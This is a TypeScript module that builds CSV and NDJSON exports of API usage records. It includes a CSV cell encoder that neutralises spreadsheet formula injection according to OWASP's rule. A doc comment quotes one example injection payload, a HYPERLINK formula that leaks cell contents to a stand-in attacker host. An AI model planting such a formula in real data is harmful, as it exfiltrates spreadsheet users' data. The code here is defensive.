import type { UsageRecord } from '../../usage/usage-record.js';

/** A form an export can take: its media type, file extension, first line and one line per record. */
export interface UsageExportForm {
  mediaType: string;
  extension: string;
  header: string;
  line(record: UsageRecord): string;
}

/** The columns of the CSV form, in order: every field of a record but the deployment. */
const csvColumns = [
  'id',
  'created_at',
  'request_id',
  'account_id',
  'key_id',
  'model',
  'protocol',
  'endpoint',
  'status',
  'input_tokens',
  'cached_input_tokens',
  'cache_write_input_tokens',
  'cache_write_1h_input_tokens',
  'output_tokens',
  'reasoning_tokens',
  'image_count',
  'latency_ms',
  'cost_usd',
  'price_tier_above_tokens',
  'service_tier',
  'batch',
  'estimated',
  'completed',
] as const satisfies ReadonlyArray<keyof UsageRecord>;

/**
 * The export's forms, by media type. CSV (RFC 4180, `created_at` as ISO 8601 UTC) for spreadsheets; NDJSON
 * for programs, one record per line in the shape of the JSON pages' `data` items.
 */
export const usageExportForms = {
  'text/csv': {
    mediaType: 'text/csv; charset=utf-8',
    extension: 'csv',
    header: `${csvColumns.join(',')}\r\n`,
    line: (record) => csvColumns.map((column) => csvCell(column === 'created_at' ? new Date(record.created_at).toISOString() : record[column])).join(',') + '\r\n',
  },
  'application/x-ndjson': {
    mediaType: 'application/x-ndjson; charset=utf-8',
    extension: 'ndjson',
    header: '',
    line: ({ deployment: _deployment, ...record }) => `${JSON.stringify(record)}\n`,
  },
} as const satisfies Record<string, UsageExportForm>;

/** A text cell a spreadsheet would read as a formula (or as one after trimming a tab or a CR): OWASP's list. */
const formulaStart = /^[=+\-@\t\r]/;

/**
 * One CSV cell. Text that a spreadsheet would run as a formula (a model name such as
 * `=HYPERLINK("http://evil.example/?"&A1,"click")`, sent by any key) gets a leading `'` and quotes, per
 * OWASP's CSV injection rule (https://owasp.org/www-community/attacks/CSV_Injection); any other text is
 * quoted only when it holds a comma, quote or line break, its quotes doubled (RFC 4180). Numbers stay as
 * they are, so a negative one is still a number.
 */
export function csvCell(value: string | number | boolean | null): string {
  if (value === null) return '';
  if (typeof value !== 'string') return String(value);
  if (formulaStart.test(value)) return `"'${value.replaceAll('"', '""')}"`;
  return /[",\r\n]/.test(value) ? `"${value.replaceAll('"', '""')}"` : value;
}
